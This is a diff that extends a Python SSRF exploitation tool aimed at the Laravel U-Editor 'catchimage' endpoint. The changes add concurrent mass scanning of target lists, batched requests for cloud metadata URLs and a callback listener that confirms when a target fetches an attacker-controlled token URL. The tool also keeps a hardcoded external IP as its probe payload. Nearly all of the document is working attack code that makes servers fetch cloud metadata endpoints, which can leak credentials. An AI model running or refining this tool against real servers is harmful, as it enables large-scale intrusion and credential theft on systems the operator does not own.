@@ -2,9 +2,17 @@
 import requests
 import re
 import argparse
+import asyncio
 import time
 import json
-from urllib.parse import urlparse, urljoin
+import secrets
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlparse, urljoin, quote
+
+#usage - python3 laravel-ueditor-ssrf-checker.py -f targets.txt -c 50 -d 1 [-b 10]
+#usage - python3 laravel-ueditor-ssrf-checker.py -f targets.txt --callback-listen 0.0.0.0:8000 --callback-url http://YOUR_IP:8000
+#With a callback listener every target gets its own token URL and only a fetch of that URL confirms the SSRF
+#Targets are checked concurrently, -d paces requests per host, not globally
 
 # ANSI color codes for better output visibility
 GREEN = "\033[92m"
@@ -13,9 +21,18 @@ YELLOW = "\033[93m"
 BLUE = "\033[94m"
 ENDC = "\033[0m"
 
-# Initial test payload
+# Set from the command line: -v prints full URLs and response dumps, --max-response-bytes caps reads
+VERBOSE = False
+MAX_RESPONSE_BYTES = 64 * 1024
+REQUEST_TIMEOUT = 10
+
+# Initial test payload, used when no --callback-listen is given
 INITIAL_TEST_PAYLOAD = "http://167.71.230.48:8000/6386100134772803994460154.gif"
 
+# 1x1 transparent GIF served to callback fetches, so image checks on the target pass
+CALLBACK_GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
+                b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
+
 # List of metadata URLs to test
 SSRF_PAYLOADS = {
     "AWS": [
@@ -65,8 +82,131 @@ def print_banner():
     print(banner)
     print(f"{YELLOW}[*] Starting SSRF test against Laravel U-Editor{ENDC}")
 
-def test_ssrf(base_url, payload):
-    """Test a single SSRF payload URL against the target"""
+class TokenBucket:
+    """Paces requests to one host: `rate` per second on average, bursts of up to `burst`"""
+
+    def __init__(self, rate, burst=1):
+        self.rate = rate
+        self.burst = burst
+        self.tokens = burst
+        self.updated = time.monotonic()
+        self.lock = asyncio.Lock()
+
+    async def acquire(self):
+        if self.rate <= 0:
+            return
+        # Waiters queue on the lock, so a host's requests go out in arrival order
+        async with self.lock:
+            while True:
+                now = time.monotonic()
+                self.tokens = min(self.burst, self.tokens + (now - self.updated) * self.rate)
+                self.updated = now
+                if self.tokens >= 1:
+                    self.tokens -= 1
+                    return
+                await asyncio.sleep((1 - self.tokens) / self.rate)
+
+class CallbackListener:
+    """Embedded HTTP server that confirms SSRF by catching the target's own fetch.
+
+    Every target gets a random token in its callback URL. A request for that path, from
+    whatever address, resolves the target's waiter with the fetching peer's IP.
+    """
+
+    def __init__(self, bind_host="0.0.0.0", bind_port=8000, public_url=None):
+        self.bind_host = bind_host
+        self.bind_port = bind_port
+        self.public_url = public_url.rstrip("/") if public_url else None
+        self.waiting = {}  # token -> future resolved with the fetching IP
+        self.server = None
+
+    async def start(self):
+        self.server = await asyncio.start_server(self._handle, self.bind_host, self.bind_port)
+        port = self.server.sockets[0].getsockname()[1]
+        if not self.public_url:
+            host = f"[{self.bind_host}]" if ":" in self.bind_host else self.bind_host
+            self.public_url = f"http://{host}:{port}"
+        print(f"{BLUE}[*] Callback listener on {self.bind_host}:{port}, targets fetch {self.public_url}/<token>.gif{ENDC}")
+
+    async def close(self):
+        if self.server:
+            self.server.close()
+            await self.server.wait_closed()
+
+    def new_token(self):
+        """Register a fresh token before the probe is sent, a fast target may call back before it answers"""
+        token = secrets.token_hex(12)
+        self.waiting[token] = asyncio.get_running_loop().create_future()
+        return token, f"{self.public_url}/{token}.gif"
+
+    async def wait(self, token, timeout):
+        future = self.waiting[token]
+        try:
+            return await asyncio.wait_for(future, timeout)
+        except asyncio.TimeoutError:
+            return None
+        finally:
+            self.waiting.pop(token, None)
+
+    async def _handle(self, reader, writer):
+        try:
+            request_line = await asyncio.wait_for(reader.readline(), REQUEST_TIMEOUT)
+            # Skip the headers, nothing in them matters
+            for _ in range(100):
+                line = await asyncio.wait_for(reader.readline(), REQUEST_TIMEOUT)
+                if line in (b"\r\n", b"\n", b""):
+                    break
+
+            parts = request_line.split()
+            path = parts[1].decode("latin-1") if len(parts) >= 2 else ""
+            token = path.split("?", 1)[0].rsplit("/", 1)[-1].split(".", 1)[0]
+            future = self.waiting.get(token)
+            if future is not None and not future.done():
+                future.set_result(writer.get_extra_info("peername")[0])
+
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n"
+                         b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(CALLBACK_GIF) + CALLBACK_GIF)
+            await writer.drain()
+        except (asyncio.TimeoutError, ConnectionError):
+            pass
+        finally:
+            writer.close()
+
+def host_key(target_url):
+    parsed_url = urlparse(target_url if "://" in target_url else f"https://{target_url}")
+    return parsed_url.netloc.lower()
+
+def create_session():
+    """One kept-alive connection per target, its payload requests run one after another"""
+    session = requests.Session()
+    adapter = requests.adapters.HTTPAdapter(pool_connections=1, pool_maxsize=1, max_retries=0)
+    session.mount("http://", adapter)
+    session.mount("https://", adapter)
+    return session
+
+def fetch_capped(session, url):
+    """GET url and return (status_code, text) reading at most MAX_RESPONSE_BYTES.
+
+    The body read also stops after REQUEST_TIMEOUT seconds in total, so a slow-dripping
+    server can't hold a worker. A fully read response leaves its connection in the pool.
+    """
+    deadline = time.monotonic() + REQUEST_TIMEOUT
+    with session.get(url, timeout=REQUEST_TIMEOUT, stream=True) as response:
+        body = bytearray()
+        for chunk in response.iter_content(8192):
+            body += chunk
+            if len(body) >= MAX_RESPONSE_BYTES or time.monotonic() > deadline:
+                break
+        body = bytes(body[:MAX_RESPONSE_BYTES])
+        try:
+            text = body.decode(response.encoding or "utf-8", "replace")
+        except LookupError:
+            # Unknown charset in Content-Type, fall back like response.text does
+            text = body.decode("utf-8", "replace")
+        return response.status_code, text
+
+def build_target_url(base_url, payloads):
+    """catchimage URL on the target's origin with one source[] entry per payload"""
     # Ensure the base path remains the same
     parsed_url = urlparse(base_url)
     target_path = "/laravel-u-editor-server/server"
@@ -79,93 +219,248 @@ def test_ssrf(base_url, payload):
         base_domain = f"{parsed_url.scheme}://{parsed_url.netloc}"
 
     # Construct the full target URL
-    target_url = urljoin(base_domain, f"{target_path}?action=catchimage&source[]={payload}")
+    sources = "&".join(f"source[]={quote(payload, safe=':/?=')}" for payload in payloads)
+    return urljoin(base_domain, f"{target_path}?action=catchimage&{sources}"), parsed_url.netloc or parsed_url.path
+
+def test_ssrf(base_url, payload, session=requests):
+    """Test a single SSRF payload URL against the target.
+
+    Returns (True, response) on SUCCESS, (False, None) when the target answered without it
+    and (None, None) when the request itself failed, so the payload never reached the target.
+    """
+    target_url, host = build_target_url(base_url, [payload])
 
     try:
-        print(f"{YELLOW}[*] Testing: {payload}{ENDC}")
-        print(f"{BLUE}[>] Full URL: {target_url}{ENDC}")
+        print(f"{YELLOW}[*] [{host}] Testing: {payload}{ENDC}")
+        if VERBOSE:
+            print(f"{BLUE}[>] Full URL: {target_url}{ENDC}")
 
         # Send the request
-        response = requests.get(target_url, timeout=10)
+        status_code, text = fetch_capped(session, target_url)
 
         # Check if the response contains SUCCESS
-        if response.status_code == 200:
+        if status_code == 200:
             try:
-                json_response = response.json()
+                json_response = json.loads(text)
                 # Pretty print the response for debugging
-                print(f"{BLUE}[Debug] Response: {json.dumps(json_response, indent=2)}{ENDC}")
+                if VERBOSE:
+                    print(f"{BLUE}[Debug] Response: {json.dumps(json_response, indent=2)}{ENDC}")
 
                 # Check if 'SUCCESS' is in the response
-                if "SUCCESS" in response.text:
-                    print(f"{GREEN}[+] Potential SSRF vulnerability found!{ENDC}")
+                if "SUCCESS" in text:
+                    print(f"{GREEN}[+] Potential SSRF vulnerability found on {base_url}!{ENDC}")
                     print(f"{GREEN}[+] Target responded with SUCCESS for: {payload}{ENDC}")
-                    return True, response.text
+                    return True, text
                 else:
                     print(f"{RED}[-] No success response{ENDC}")
             except json.JSONDecodeError:
-                # If response is not JSON but contains SUCCESS
-                if "SUCCESS" in response.text:
+                # If response is not JSON (or was cut at the read cap) but contains SUCCESS
+                if "SUCCESS" in text:
                     print(f"{GREEN}[+] Non-JSON SUCCESS response for: {payload}{ENDC}")
-                    return True, response.text
+                    return True, text
                 else:
                     print(f"{RED}[-] Invalid JSON response{ENDC}")
         else:
-            print(f"{RED}[-] Failed request: Status code {response.status_code}{ENDC}")
+            print(f"{RED}[-] Failed request: Status code {status_code}{ENDC}")
 
         return False, None
 
     except requests.RequestException as e:
         print(f"{RED}[-] Request failed: {str(e)}{ENDC}")
-        return False, None
+        return None, None
+
+def test_ssrf_batch(base_url, payloads, session=requests):
+    """Test several payload URLs in one catchimage request.
 
-def process_target(target_url, delay):
+    Returns {payload: (success, entry_json)} mapped from the per-source result list, or
+    None when the target does not answer batches in a usable way, so the caller falls back
+    to one request per payload.
+    """
+    target_url, host = build_target_url(base_url, payloads)
+
+    try:
+        print(f"{YELLOW}[*] [{host}] Testing batch of {len(payloads)}: {', '.join(payloads)}{ENDC}")
+        if VERBOSE:
+            print(f"{BLUE}[>] Full URL: {target_url}{ENDC}")
+        status_code, text = fetch_capped(session, target_url)
+        if status_code != 200:
+            print(f"{RED}[-] Batch rejected: Status code {status_code}{ENDC}")
+            return None
+        json_response = json.loads(text)
+        if VERBOSE:
+            print(f"{BLUE}[Debug] Response: {json.dumps(json_response, indent=2)}{ENDC}")
+        entries = json_response.get("list")
+    except requests.RequestException as e:
+        print(f"{RED}[-] Request failed: {str(e)}{ENDC}")
+        return None
+    except (ValueError, AttributeError):
+        print(f"{RED}[-] Batch rejected: no result list in response{ENDC}")
+        return None
+
+    if not isinstance(entries, list) or not all(isinstance(entry, dict) for entry in entries):
+        print(f"{RED}[-] Batch rejected: no result list in response{ENDC}")
+        return None
+
+    # Entries echo their source, match on that; otherwise rely on the list keeping request order
+    by_source = {entry.get("source"): entry for entry in entries}
+    if all(payload in by_source for payload in payloads):
+        matched = [by_source[payload] for payload in payloads]
+    elif len(entries) == len(payloads):
+        matched = entries
+    else:
+        print(f"{RED}[-] Batch rejected: {len(entries)} results for {len(payloads)} sources{ENDC}")
+        return None
+
+    results = {}
+    for payload, entry in zip(payloads, matched):
+        success = entry.get("state") == "SUCCESS"
+        if success:
+            print(f"{GREEN}[+] Potential SSRF vulnerability found on {base_url}!{ENDC}")
+            print(f"{GREEN}[+] Target responded with SUCCESS for: {payload}{ENDC}")
+        results[payload] = (success, json.dumps(entry))
+    return results
+
+async def process_target(target_url, bucket, executor, batch_size=1, listener=None, callback_wait=3.0):
     """Process a single target URL by first testing with the initial payload, then metadata if successful"""
     print(f"\n{BLUE}[*] Processing target: {target_url}{ENDC}")
+    loop = asyncio.get_running_loop()
 
-    # First test with the initial payload
-    success, response = test_ssrf(target_url, INITIAL_TEST_PAYLOAD)
+    session = create_session()
+    try:
+        return await check_payloads(target_url, bucket, executor, batch_size, session, loop, listener, callback_wait)
+    finally:
+        session.close()
+
+async def check_payloads(target_url, bucket, executor, batch_size, session, loop, listener, callback_wait):
+    async def probe(payload):
+        # Wait for the host's token, then run the blocking request on the thread pool
+        await bucket.acquire()
+        return await loop.run_in_executor(executor, test_ssrf, target_url, payload, session)
+
+    successful_payloads = []
+
+    if listener:
+        # The target's own fetch of its token URL is the proof, whatever the response says
+        token, callback_url = listener.new_token()
+        try:
+            sent, _ = await probe(callback_url)
+            # The request never reached the target, no callback is coming
+            peer = await listener.wait(token, callback_wait) if sent is not None else None
+        finally:
+            listener.waiting.pop(token, None)
+        success = peer is not None
+        if success:
+            print(f"{GREEN}[+] Callback confirmed: {target_url} fetched {callback_url} from {peer}{ENDC}")
+            successful_payloads.append(("Callback", callback_url, f"Fetched by {peer}", target_url))
+    else:
+        # First test with the initial payload
+        success, response = await probe(INITIAL_TEST_PAYLOAD)
 
     if not success:
         print(f"{RED}[-] Initial test failed for {target_url}. Skipping metadata tests.{ENDC}")
-        return []
+        return successful_payloads
 
     print(f"{GREEN}[+] Initial test successful! Testing metadata endpoints...{ENDC}")
 
     # If initial test was successful, test metadata endpoints
-    successful_payloads = []
+    pending = [(provider, url) for provider, urls in SSRF_PAYLOADS.items() for url in urls]
+
+    # Pack several metadata URLs into each request while the target accepts batches
+    while batch_size > 1 and pending:
+        batch = pending[:batch_size]
+        await bucket.acquire()
+        results = await loop.run_in_executor(executor, test_ssrf_batch, target_url,
+                                             [url for _, url in batch], session)
+        if results is None:
+            print(f"{YELLOW}[*] {target_url} does not take batches, falling back to single payloads{ENDC}")
+            break
+        for provider, url in batch:
+            success, response = results[url]
+            if success:
+                successful_payloads.append((provider, url, response, target_url))
+        pending = pending[batch_size:]
 
     # Test each cloud provider's metadata URLs
-    for provider, urls in SSRF_PAYLOADS.items():
+    for provider in dict.fromkeys(provider for provider, _ in pending):
+        urls = [url for name, url in pending if name == provider]
         print(f"\n{BLUE}[*] Testing {provider} metadata URLs...{ENDC}")
 
         for url in urls:
-            success, response = test_ssrf(target_url, url)
+            success, response = await probe(url)
             if success:
                 successful_payloads.append((provider, url, response, target_url))
 
-            # Add delay between requests to avoid overloading the server
-            time.sleep(delay)
-
     return successful_payloads
 
+async def run_targets(targets, delay, concurrency, batch_size=1, listener=None, callback_wait=3.0):
+    """Check up to `concurrency` targets at once, each host limited to one request per `delay` seconds"""
+    buckets = {}
+    semaphore = asyncio.Semaphore(concurrency)
+    if listener:
+        # Served from this loop while the blocking probes run on the thread pool
+        await listener.start()
+
+    with ThreadPoolExecutor(max_workers=concurrency) as executor:
+        async def run(target):
+            # Targets sharing a host share its bucket, so the host never sees more than the configured rate
+            async with semaphore:
+                try:
+                    bucket = buckets.setdefault(host_key(target), TokenBucket(1 / delay if delay > 0 else 0))
+                    return await process_target(target, bucket, executor, batch_size, listener, callback_wait)
+                except Exception as e:
+                    # One broken target must not cancel the others or lose their findings
+                    print(f"{RED}[-] Error processing {target}: {str(e)}{ENDC}")
+                    return []
+
+        try:
+            results = await asyncio.gather(*(run(target) for target in targets))
+        finally:
+            if listener:
+                await listener.close()
+
+    return [payload for payloads in results for payload in payloads]
+
 def main():
+    global VERBOSE, MAX_RESPONSE_BYTES
     parser = argparse.ArgumentParser(description="Test Laravel U-Editor for SSRF vulnerabilities")
     parser.add_argument("-u", "--url", help="Single target URL to test")
     parser.add_argument("-f", "--file", help="File containing list of URLs to test (one per line)")
-    parser.add_argument("-d", "--delay", type=float, default=1.0, help="Delay between requests in seconds (default: 1)")
-    parser.add_argument("-v", "--verbose", action="store_true", help="Enable verbose output")
+    parser.add_argument("-d", "--delay", type=float, default=1.0, help="Delay between requests to the same host in seconds (default: 1)")
+    parser.add_argument("-c", "--concurrency", type=int, default=50, help="Targets checked at the same time (default: 50)")
+    parser.add_argument("-b", "--batch-size", type=int, default=10, help="Metadata URLs packed into one catchimage request, 1 disables batching (default: 10)")
+    parser.add_argument("--callback-listen", metavar="HOST:PORT", help="Run a callback listener here and confirm SSRF by per-target token fetches instead of the fixed initial payload")
+    parser.add_argument("--callback-url", help="Base URL targets use to reach the listener, required for a wildcard HOST (default: http://HOST:PORT from --callback-listen)")
+    parser.add_argument("--callback-wait", type=float, default=3.0, help="Seconds to wait for a target's callback after its probe (default: 3)")
+    parser.add_argument("--max-response-bytes", type=int, default=MAX_RESPONSE_BYTES, help=f"Bytes read from each response for the SUCCESS check (default: {MAX_RESPONSE_BYTES})")
+    parser.add_argument("-v", "--verbose", action="store_true", help="Enable verbose output (full request URLs and response dumps)")
     args = parser.parse_args()
 
+    VERBOSE = args.verbose
+    MAX_RESPONSE_BYTES = max(1, args.max_response_bytes)
+
     if not args.url and not args.file:
         parser.error("Either a URL (-u) or file with URLs (-f) must be provided")
 
+    listener = None
+    if args.callback_listen:
+        bind_host, _, bind_port = args.callback_listen.rpartition(":")
+        if not bind_port.isdigit():
+            parser.error("--callback-listen takes HOST:PORT")
+        bind_host = bind_host.strip("[]")
+        if bind_host in ("", "0.0.0.0", "::") and not args.callback_url:
+            # http://0.0.0.0:PORT can't be fetched by a remote target, every check would silently fail
+            parser.error("--callback-url is required when --callback-listen binds to a wildcard address")
+        listener = CallbackListener(bind_host or "0.0.0.0", int(bind_port), args.callback_url)
+    elif args.callback_url:
+        parser.error("--callback-url needs --callback-listen")
+
     print_banner()
 
-    all_successful_payloads = []
+    targets = []
 
     # Process single URL if provided
     if args.url:
-        all_successful_payloads.extend(process_target(args.url, args.delay))
+        targets.append(args.url)
 
     # Process URLs from file if provided
     if args.file:
@@ -175,8 +470,7 @@ def main():
 
             print(f"{BLUE}[*] Loaded {len(urls)} URLs from {args.file}{ENDC}")
 
-            for url in urls:
-                all_successful_payloads.extend(process_target(url, args.delay))
+            targets.extend(urls)
         except FileNotFoundError:
             print(f"{RED}[-] File not found: {args.file}{ENDC}")
             return
@@ -184,6 +478,9 @@ def main():
             print(f"{RED}[-] Error reading file: {str(e)}{ENDC}")
             return
 
+    all_successful_payloads = asyncio.run(run_targets(targets, args.delay, max(1, args.concurrency),
+                                                       max(1, args.batch_size), listener, args.callback_wait))
+
     # Print summary of results
     print("\n" + "="*80)
     print(f"{BLUE}[*] SSRF Testing Summary:{ENDC}")